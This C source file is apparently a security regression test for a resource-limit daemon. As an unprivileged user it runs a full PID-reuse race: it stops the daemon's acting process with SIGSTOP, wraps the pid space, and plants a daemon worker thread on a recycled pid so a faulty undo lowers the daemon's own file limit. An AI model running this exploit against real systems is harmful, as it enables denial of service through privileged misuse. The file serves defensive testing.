/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attack-undo: the attack of the security-undo suite (tests/security/test-security-undo.sh)
 * and of the vm suite (tests/vm/inside.sh): an undo by pid number that lands on
 * the daemon's own thread.
 *
 *   attack-undo attack DAEMON_PID
 *
 * Run as an unprivileged user, one round:
 *
 *  1. Reads the daemon's NOFILE limits S:H from /proc/DAEMON/limits (world
 *     readable) and starts a child T with NOFILE 0:H (its own hard limit must
 *     be at least H), then a two-threaded child R and a 200-threaded child M.
 *  2. Asks Prlimit(T, NOFILE, set, S, H): a soft limit raised up to the hard
 *     one of its own process, so no polkit question; the daemon has a process
 *     with the caller's real uid (its acting process) make it. A second
 *     thread sends SIGSTOP to the ids /proc/sys/kernel/ns_last_pid says come
 *     next until one of them is a child of the daemon (the acting process);
 *     a call answered first is a miss: T is put back to 0:H and it is tried
 *     again (at most 400 times).
 *  3. Kills and reaps T, then forks (vfork, _exit) until the next pid the
 *     kernel hands out is T's number: a wrap of the whole pid space, so
 *     pid_max should be small (the driver lowers it).
 *  4. Makes the daemon start a worker thread, which then gets T's number:
 *     workers start on demand (up to 4), one per usage read of a many-threaded
 *     process in progress, one uid's reads one at a time. With k workers
 *     already there (the daemon's tasks but its main thread), k+1 GetRusage
 *     calls at once: the first of M (slow: it walks 200 threads, so it is
 *     still running when the others arrive), the rest of R.
 *  5. Waits for the Prlimit reply (the daemon kills its stopped acting process
 *     at its 5 s deadline). The old daemon then "undoes" the change by pid
 *     number: T's number is its own worker's, whose NOFILE (the daemon's,
 *     S:H) is what the change set, so it puts back T's old 0:H, with its
 *     privileges, on itself.
 *
 * Prints one line per step (SETUP, TRY, STOPPED, WRAP, WORKERS, REPLY, AFTER)
 * and a last line "RESULT stopped=0|1 took_T=0|1 reply_ms=N reply=NAME
 * nofile_before=S:H nofile_after=S:H lowered_tasks=N daemon=alive|gone"
 * (exit 0 when the round could be made, 3 when it could not be set up). */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE   /* built by hand for the VM too (tests/vm/run.sh) */
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <pthread.h>
#include <semaphore.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <systemd/sd-bus.h>
#include <time.h>
#include <unistd.h>

#include "attack-common.h"
#include "resource1-bus.h"

#define NAME  RESOURCE1_BUS_NAME
#define PATH  RESOURCE1_PATH
#define IFACE RESOURCE1_INTERFACE

#define MAX_TRIES 400
#define M_THREADS 200
/* The acting process's deadline is 5 s: T's number must be the daemon's by then. */
#define WRAP_BUDGET_MS 4300.0

static double now_ms(void) {
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double) ts.tv_sec * 1e3 + (double) ts.tv_nsec / 1e6;
}

static pid_t daemon_pid;
static int last_pid_fd = -1;
static long pid_max;

static pid_t last_pid(void) {
        char buf[16];
        ssize_t n = pread(last_pid_fd, buf, sizeof buf - 1, 0);
        if (n <= 0)
                return -1;
        buf[n] = '\0';
        return (pid_t) atoi(buf);
}

static long read_long(const char *path) {
        char buf[32] = "";
        FILE *f = fopen(path, "re");
        if (!f)
                return -1;
        if (!fgets(buf, sizeof buf, f))
                buf[0] = '\0';
        fclose(f);
        return buf[0] ? atol(buf) : -1;
}

/* NOFILE of /proc/<dir>/limits ("Max open files  S  H  files"). */
static int read_nofile(const char *dir, uint64_t *soft, uint64_t *hard) {
        char path[128], line[256];
        snprintf(path, sizeof path, "%s/limits", dir);
        FILE *f = fopen(path, "re");
        if (!f)
                return -errno;
        int r = -ENOENT;
        while (fgets(line, sizeof line, f))
                if (strncmp(line, "Max open files", 14) == 0) {
                        char s[32], h[32];
                        if (sscanf(line + 14, "%31s %31s", s, h) == 2) {
                                *soft = strcmp(s, "unlimited") == 0 ? UINT64_MAX : strtoull(s, NULL, 10);
                                *hard = strcmp(h, "unlimited") == 0 ? UINT64_MAX : strtoull(h, NULL, 10);
                                r = 0;
                        }
                        break;
                }
        fclose(f);
        return r;
}

static int daemon_nofile(uint64_t *soft, uint64_t *hard) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d", (int) daemon_pid);
        return read_nofile(dir, soft, hard);
}

/* The daemon's task ids, into tids (at most max); returns how many. */
static int daemon_tasks(pid_t *tids, int max) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/task", (int) daemon_pid);
        DIR *d = opendir(path);
        if (!d)
                return -1;
        int n = 0;
        struct dirent *e;
        while ((e = readdir(d)))
                if (e->d_name[0] >= '0' && e->d_name[0] <= '9') {
                        if (n < max)
                                tids[n] = (pid_t) atoi(e->d_name);
                        n++;
                }
        closedir(d);
        return n;
}

static bool has_task(pid_t tid) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/task/%d", (int) daemon_pid, (int) tid);
        return access(path, F_OK) == 0;
}

/* State letter and parent of a pid (from /proc/PID/stat), 0 when gone. */
static char stat_of(pid_t pid, pid_t *ppid) {
        char path[64], buf[512];
        snprintf(path, sizeof path, "/proc/%d/stat", (int) pid);
        if (read_small(path, buf, sizeof buf) < 0)
                return 0;
        char *p = strrchr(buf, ')');
        char st = 0;
        int pp = 0;
        if (!p || sscanf(p + 1, " %c %d", &st, &pp) != 2)
                return 0;
        if (ppid)
                *ppid = (pid_t) pp;
        return st;
}

static bool daemon_alive(void) {
        char st = stat_of(daemon_pid, NULL);
        return st != 0 && st != 'Z' && st != 'X';
}

/* ---- processes of our own ---- */

static void *sleeper(void *p) {
        (void) p;
        for (;;)
                pause();
        return NULL;
}

/* A child with n threads besides its main one, all asleep. */
static pid_t spawn_threaded(int n) {
        int pipefd[2];
        if (pipe2(pipefd, O_CLOEXEC) < 0)
                return -1;
        pid_t pid = fork();
        if (pid == 0) {
                close(pipefd[0]);
                pthread_attr_t a;
                pthread_attr_init(&a);
                pthread_attr_setstacksize(&a, 64 * 1024);
                for (int i = 0; i < n; i++) {
                        pthread_t t;
                        if (pthread_create(&t, &a, sleeper, NULL) != 0)
                                _exit(1);
                }
                char c = 1;
                /* The parent reads this byte: without it, it gives up. */
                if (write(pipefd[1], &c, 1) != 1)
                        _exit(1);
                for (;;)
                        pause();
        }
        close(pipefd[1]);
        char c;
        if (pid < 0 || read(pipefd[0], &c, 1) != 1) {
                close(pipefd[0]);
                return -1;
        }
        close(pipefd[0]);
        return pid;
}

/* One pid used up: a vfork'd child that exits at once. */
static pid_t burn_pid(void) {
        pid_t c = vfork();
        if (c == 0)
                _exit(0);
        if (c > 0)
                (void) waitpid(c, NULL, 0);
        return c;
}

/* ---- the stopper threads ---- */

/* One per CPU (at most MAX_STOPPERS), each pinned to its own, so that one
 * runs whichever CPU the acting process lands on. Armed with the pid the
 * acting process will get (the first free number after ns_last_pid: nothing
 * else of ours makes processes meanwhile), each sends SIGSTOP to it in a
 * tight loop: kill() fails (ESRCH, then EPERM while it still has root's real
 * uid) until the few microseconds between its setresuid() and its end. */
#define MAX_STOPPERS 4
static sem_t arm[MAX_STOPPERS];
static int n_stoppers;
static atomic_int armed_pid;           /* the predicted pid; 0: disarmed */
static atomic_int stopped;             /* the acting process stopped, or 0 */
static atomic_bool quit;
static atomic_ulong kills_sent, kills_delivered;

static bool pid_taken(pid_t id) {
        char path[32];
        snprintf(path, sizeof path, "/proc/%d", (int) id);
        return access(path, F_OK) == 0;
}

/* The number the kernel hands out next after last. */
static pid_t next_free(pid_t last) {
        pid_t id = last;
        for (int i = 0; i < 1000; i++) {
                id = id + 1 >= pid_max ? 300 : id + 1;
                if (!pid_taken(id))
                        return id;
        }
        return last + 1;
}

static void *stopper(void *p) {
        int cpu = (int) (intptr_t) p;
        cpu_set_t set;
        CPU_ZERO(&set);
        CPU_SET(cpu, &set);
        (void) pthread_setaffinity_np(pthread_self(), sizeof set, &set);

        while (!atomic_load(&quit)) {
                sem_wait(&arm[cpu]);
                unsigned long sent = 0, delivered = 0;
                pid_t id;
                while ((id = atomic_load_explicit(&armed_pid, memory_order_relaxed)) != 0) {
                        sent++;
                        if (kill(id, SIGSTOP) != 0)
                                continue;
                        delivered++;
                        pid_t ppid = 0;
                        char st = stat_of(id, &ppid);
                        if (st && ppid == daemon_pid) {
                                atomic_store(&stopped, id);
                                atomic_store(&armed_pid, 0);
                                break;
                        }
                        /* a process of our uid that is not the daemon's: let it go on */
                        (void) kill(id, SIGCONT);
                        usleep(100);
                }
                atomic_fetch_add(&kills_sent, sent);
                atomic_fetch_add(&kills_delivered, delivered);
        }
        return NULL;
}

static void arm_stoppers(pid_t pred) {
        atomic_store(&armed_pid, pred);
        for (int i = 0; i < n_stoppers; i++)
                sem_post(&arm[i]);
}

/* ---- bus ---- */

typedef struct Reply {
        bool done;
        double at;
        char name[128];
        char message[512];
        uint64_t soft, hard;
} Reply;

static int on_reply(sd_bus_message *m, void *userdata, sd_bus_error *ret_error) {
        Reply *r = userdata;
        (void) ret_error;
        r->done = true;
        r->at = now_ms();
        const sd_bus_error *e = sd_bus_message_get_error(m);
        if (e) {
                snprintf(r->name, sizeof r->name, "%s", e->name ?: "?");
                snprintf(r->message, sizeof r->message, "%s", e->message ?: "");
        } else {
                snprintf(r->name, sizeof r->name, "ok");
                (void) sd_bus_message_read(m, "tt", &r->soft, &r->hard);
        }
        return 0;
}

static void pump(sd_bus *bus, uint64_t wait_usec) {
        while (sd_bus_process(bus, NULL) > 0)
                ;
        (void) sd_bus_wait(bus, wait_usec);
        while (sd_bus_process(bus, NULL) > 0)
                ;
}

static int attack(pid_t dpid) {
        daemon_pid = dpid;
        last_pid_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
        pid_max = read_long("/proc/sys/kernel/pid_max");
        if (last_pid_fd < 0 || pid_max < 400) {
                printf("SETUP failed: /proc/sys/kernel/ns_last_pid or pid_max unreadable\n");
                return 3;
        }

        uint64_t S, H;
        if (daemon_nofile(&S, &H) < 0) {
                printf("SETUP failed: no /proc/%d/limits (is the daemon running?)\n", (int) dpid);
                printf("RESULT stopped=0 took_T=0 reply_ms=0 reply=none nofile_before=none nofile_after=none "
                       "lowered_tasks=0 daemon=gone\n");
                return 3;
        }
        struct rlimit mine;
        getrlimit(RLIMIT_NOFILE, &mine);
        if (mine.rlim_max < H) {
                printf("SETUP failed: own NOFILE hard %llu is below the daemon's %" PRIu64 "\n",
                       (unsigned long long) mine.rlim_max, H);
                return 3;
        }

        long cpus = sysconf(_SC_NPROCESSORS_ONLN);
        n_stoppers = cpus < 1 ? 1 : cpus > MAX_STOPPERS ? MAX_STOPPERS : (int) cpus;
        pthread_t st[MAX_STOPPERS];
        for (int i = 0; i < n_stoppers; i++) {
                sem_init(&arm[i], 0, 0);
                if (pthread_create(&st[i], NULL, stopper, (void *) (intptr_t) i) != 0)
                        return 3;
        }
        sd_bus *bus = NULL;
        int r = sd_bus_open_system(&bus);
        if (r < 0) {
                printf("SETUP failed: system bus: %s\n", strerror(-r));
                return 3;
        }
        sd_bus_set_method_call_timeout(bus, 15 * 1000000ULL);
        const char *unique;
        (void) sd_bus_get_unique_name(bus, &unique);

        /* T: away from both ends of the pid range, so that a wrap reaches it
         * and its neighbours are plain numbers. */
        pid_t T = -1;
        for (int i = 0; i < 4 * (int) pid_max && T < 0; i++) {
                pid_t l = last_pid();
                if (l < 320 || l > pid_max - 300) {
                        burn_pid();
                        continue;
                }
                T = fork();
                if (T == 0) {
                        for (;;)
                                pause();
                }
        }
        if (T < 0) {
                printf("SETUP failed: could not start T\n");
                return 3;
        }
        pid_t R = spawn_threaded(1), M = spawn_threaded(M_THREADS);
        if (R < 0 || M < 0) {
                printf("SETUP failed: could not start the threaded children\n");
                return 3;
        }

        struct rlimit harmful = { 0, (rlim_t) H };
        if (prlimit(T, RLIMIT_NOFILE, &harmful, NULL) < 0) {
                printf("SETUP failed: prlimit(T, NOFILE, 0:%" PRIu64 "): %s\n", H, strerror(errno));
                return 3;
        }
        pid_t tids[64];
        int tasks_before = daemon_tasks(tids, 64);
        printf("SETUP daemon=%d nofile=%" PRIu64 ":%" PRIu64 " tasks=%d pid_max=%ld T=%d (NOFILE 0:%" PRIu64
               ") R=%d (2 threads) M=%d (%d threads)\n", (int) dpid, S, H, tasks_before, pid_max, (int) T, H,
               (int) R, (int) M, M_THREADS + 1);

        /* 2. The change, and SIGSTOP at the process that makes it. */
        Reply pr = {};
        sd_bus_slot *slot = NULL;
        double sent = 0;
        int tries = 0, misses_ok = 0, misses_err = 0;
        pid_t acting = 0;
        char first_miss[700] = "";
        for (tries = 1; tries <= MAX_TRIES && !acting; tries++) {
                if (prlimit(T, RLIMIT_NOFILE, &harmful, NULL) < 0) {
                        printf("SETUP failed: resetting T: %s\n", strerror(errno));
                        return 3;
                }
                pr = (Reply) {};
                atomic_store(&stopped, 0);
                pid_t pred = next_free(last_pid());
                arm_stoppers(pred);
                sent = now_ms();
                r = sd_bus_call_method_async(bus, &slot, NAME, PATH, IFACE, "Prlimit", on_reply, &pr, "usbtt",
                                             (uint32_t) T, "NOFILE", 1, S, H);
                if (r < 0) {
                        printf("SETUP failed: sending Prlimit: %s\n", strerror(-r));
                        return 3;
                }
                while (!pr.done && !atomic_load(&stopped) && now_ms() - sent < 3000)
                        pump(bus, 500);
                acting = atomic_load(&stopped);
                atomic_store(&armed_pid, 0);
                if (acting) {
                        /* Stopped for sure, and the call still pending? */
                        char s = 0;
                        for (int i = 0; i < 200 && !pr.done; i++) {
                                s = stat_of(acting, NULL);
                                if (s == 'T' || s == 't')
                                        break;
                                pump(bus, 1000);
                        }
                        if (pr.done || (s != 'T' && s != 't'))
                                acting = 0;
                }
                if (!acting) {
                        /* A miss: wait for its answer, so that tries do not pile up. */
                        while (!pr.done && now_ms() - sent < 7000)
                                pump(bus, 10000);
                        if (!strcmp(pr.name, "ok"))
                                misses_ok++;
                        else
                                misses_err++;
                        if (!first_miss[0])
                                snprintf(first_miss, sizeof first_miss, "%s%s%s", pr.done ? pr.name : "no answer",
                                         pr.message[0] ? ": " : "", pr.message);
                        slot = sd_bus_slot_unref(slot);
                        if (!daemon_alive())
                                break;
                }
        }
        tries--;
        if (!acting) {
                printf("TRY %d calls, no acting process stopped (%d answered ok, %d with an error; first: %s; "
                       "%lu signals sent, %lu delivered)\n", tries, misses_ok, misses_err, first_miss,
                       (unsigned long) kills_sent, (unsigned long) kills_delivered);
                printf("RESULT stopped=0 took_T=0 reply_ms=0 reply=none nofile_before=%" PRIu64 ":%" PRIu64
                       " nofile_after=none lowered_tasks=0 daemon=%s\n", S, H, daemon_alive() ? "alive" : "gone");
                kill(R, SIGKILL), kill(M, SIGKILL), kill(T, SIGKILL);
                return 3;
        }
        printf("STOPPED the acting process %d (parent %d) on call %d (%d before answered ok, %d with an error), "
               "%.0f ms after the call\n", (int) acting, (int) dpid, tries, misses_ok, misses_err, now_ms() - sent);

        /* 3. T's number free, and next. */
        kill(T, SIGKILL);
        waitpid(T, NULL, 0);
        /* The numbers just below T that are taken (by processes or threads):
         * the kernel skips them, so the pid before T's is the lowest of them
         * minus one. */
        pid_t low = T;
        while (low > 301) {
                char path[32];
                snprintf(path, sizeof path, "/proc/%d", (int) low - 1);
                if (access(path, F_OK) != 0)
                        break;
                low--;
        }
        double w0 = now_ms();
        long forks = 0;
        bool wrapped = false;
        while (now_ms() - sent < WRAP_BUDGET_MS) {
                pid_t c = burn_pid();
                forks++;
                if (c < 0) {
                        usleep(100);
                        continue;
                }
                if (c == T)
                        continue;            /* one too far: once more round */
                if (c < T && c >= low - 1) {
                        bool between_taken = true;
                        for (pid_t id = c + 1; id < T && between_taken; id++) {
                                char path[32];
                                snprintf(path, sizeof path, "/proc/%d", (int) id);
                                between_taken = access(path, F_OK) == 0;
                        }
                        if (between_taken) {
                                wrapped = true;
                                break;
                        }
                }
        }
        printf("WRAP %s: %ld forks in %.0f ms, now %.0f ms after the call (ns_last_pid %d)\n",
               wrapped ? "T's number is next" : "did not reach T's number in time", forks, now_ms() - w0,
               now_ms() - sent, (int) last_pid());

        /* 4. A new worker thread, which takes T's number. */
        bool took = false;
        int workers = 0, calls = 0, new_tasks = 0;
        char new_list[256] = "";
        for (int attempt = 0; wrapped && attempt < 3 && !took; attempt++) {
                int n_before = daemon_tasks(tids, 64);
                pid_t before[64];
                memcpy(before, tids, sizeof before);
                workers = n_before - 1;
                if (workers >= 4) {
                        printf("WORKERS the daemon has %d worker threads already: no new one can start\n", workers);
                        break;
                }
                calls = workers + 1;
                Reply usage[8] = {};
                sd_bus_slot *uslots[8] = {};
                for (int i = 0; i < calls; i++) {
                        pid_t target = workers > 0 && i == 0 ? M : R;
                        r = sd_bus_call_method_async(bus, &uslots[i], NAME, PATH, IFACE, "GetRusage", on_reply,
                                                     &usage[i], "us", (uint32_t) target, "self");
                        if (r < 0)
                                break;
                }
                (void) sd_bus_flush(bus);
                double u0 = now_ms();
                for (;;) {
                        int answered = 0;
                        for (int i = 0; i < calls; i++)
                                answered += usage[i].done;
                        if (answered == calls || now_ms() - u0 > 2000 || has_task(T))
                                break;
                        pump(bus, 1000);
                }
                took = has_task(T);
                int n_after = daemon_tasks(tids, 64);
                new_list[0] = '\0';
                new_tasks = 0;
                for (int i = 0; i < n_after && i < 64; i++) {
                        bool old = false;
                        for (int j = 0; j < n_before && j < 64; j++)
                                old |= before[j] == tids[i];
                        if (!old) {
                                size_t l = strlen(new_list);
                                snprintf(new_list + l, sizeof new_list - l, "%s%d", new_tasks ? "," : "",
                                         (int) tids[i]);
                                new_tasks++;
                        }
                }
                printf("WORKERS %d before, %d GetRusage calls at once%s: new task(s) [%s]; task %d (T's number) "
                       "%s, %.0f ms after the call\n", workers, calls, workers ? " (the first of M)" : "", new_list,
                       (int) T, took ? "is the daemon's" : "is not the daemon's", now_ms() - sent);
                /* the rest of the answers, without keeping the slots */
                for (int i = 0; i < calls; i++)
                        uslots[i] = sd_bus_slot_unref(uslots[i]);
                if (new_tasks > 0 || last_pid() != T - 1)
                        break;       /* a thread started elsewhere, or the number moved: no second try */
        }

        /* 5. The deadline: the daemon kills its acting process and answers. */
        while (!pr.done && now_ms() - sent < 12000)
                pump(bus, 50000);
        double reply_ms = pr.done ? pr.at - sent : 0;
        printf("REPLY %s after %.0f ms: %s%s%s\n", pr.done ? "came" : "did not come", pr.done ? reply_ms : now_ms() - sent,
               pr.done ? pr.name : "", pr.message[0] ? ": " : "", pr.message);
        usleep(200000);

        uint64_t s2 = 0, h2 = 0;
        bool alive = daemon_alive();
        char after[64] = "none";
        if (daemon_nofile(&s2, &h2) == 0)
                snprintf(after, sizeof after, "%" PRIu64 ":%" PRIu64, s2, h2);
        int n = daemon_tasks(tids, 64), lowered = 0;
        for (int i = 0; i < n && i < 64; i++) {
                char dir[64];
                uint64_t ts, th;
                snprintf(dir, sizeof dir, "/proc/%d/task/%d", (int) dpid, (int) tids[i]);
                if (read_nofile(dir, &ts, &th) == 0 && (ts != S || th != H)) {
                        printf("AFTER task %d of the daemon has NOFILE %" PRIu64 ":%" PRIu64 "\n", (int) tids[i], ts,
                               th);
                        lowered++;
                }
        }
        printf("AFTER the daemon (pid %d) is %s, NOFILE %s (was %" PRIu64 ":%" PRIu64 "), %d task(s), %d with "
               "other NOFILE limits\n", (int) dpid, alive ? "alive" : "gone", after, S, H, n < 0 ? 0 : n, lowered);
        printf("RESULT stopped=1 took_T=%d reply_ms=%.0f reply=%s nofile_before=%" PRIu64 ":%" PRIu64
               " nofile_after=%s lowered_tasks=%d daemon=%s\n", took, reply_ms, pr.done ? pr.name : "none", S, H,
               after, lowered, alive ? "alive" : "gone");

        atomic_store(&quit, true);
        for (int i = 0; i < n_stoppers; i++) {
                sem_post(&arm[i]);
                pthread_join(st[i], NULL);
        }
        slot = sd_bus_slot_unref(slot);
        sd_bus_flush_close_unref(bus);
        kill(R, SIGKILL), kill(M, SIGKILL);
        waitpid(R, NULL, 0), waitpid(M, NULL, 0);
        return 0;
}

int main(int argc, char *argv[]) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 3 && strcmp(argv[1], "attack") == 0 && atoi(argv[2]) > 1)
                return attack((pid_t) atoi(argv[2]));
        fprintf(stderr, "usage: attack-undo attack DAEMON_PID\n");
        return 2;
}
